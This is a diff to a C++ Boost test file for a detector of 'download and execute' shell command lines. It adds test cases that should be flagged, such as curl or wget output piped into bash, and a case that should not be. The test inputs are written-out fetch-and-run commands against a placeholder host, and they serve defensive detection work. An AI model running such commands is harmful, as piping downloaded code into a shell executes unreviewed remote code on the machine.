@@ -324,6 +324,10 @@ BOOST_AUTO_TEST_CASE(download_and_execute_in_the_command_line) {
   BOOST_TEST(has(a[0].evidence_json, "\"pattern\":\"downloader piped into a shell\""));
   BOOST_TEST(subtypes(r.exec("/bin/sh", {"sh", "-c", "wget -q -O- http://x/i | sudo bash -s -- --yes"})) ==
              std::vector<std::string>{"download_execute"});
+  BOOST_TEST(subtypes(r.exec("/bin/bash", {"bash", "-c", "curl -s http://x/i.sh 2>&1 | bash"})) ==
+             std::vector<std::string>{"download_execute"});
+  BOOST_TEST(subtypes(r.exec("/bin/bash", {"bash", "-c", "wget -O- http://x/i.sh |& bash"})) ==
+             std::vector<std::string>{"download_execute"});
   BOOST_TEST(subtypes(r.exec("/bin/bash", {"bash", "-c", "bash <(curl -s http://x/i.sh)"})) ==
              std::vector<std::string>{"download_execute"});
 
@@ -333,6 +337,7 @@ BOOST_AUTO_TEST_CASE(download_and_execute_in_the_command_line) {
   BOOST_TEST(r.exec("/bin/sh", {"sh", "-c", "curl -s http://x/ | grep version"}).empty());
   BOOST_TEST(r.exec("/bin/sh", {"sh", "-c", "cat local.sh | sh"}).empty());
   BOOST_TEST(r.exec("/bin/sh", {"sh", "-c", "curl -s http://x/ || sh fallback.sh"}).empty());
+  BOOST_TEST(r.exec("/bin/sh", {"sh", "-c", "curl -s http://x/ > f & sh local.sh"}).empty());
 }
 
 BOOST_AUTO_TEST_CASE(download_and_execute_between_siblings_sharing_a_pipe) {
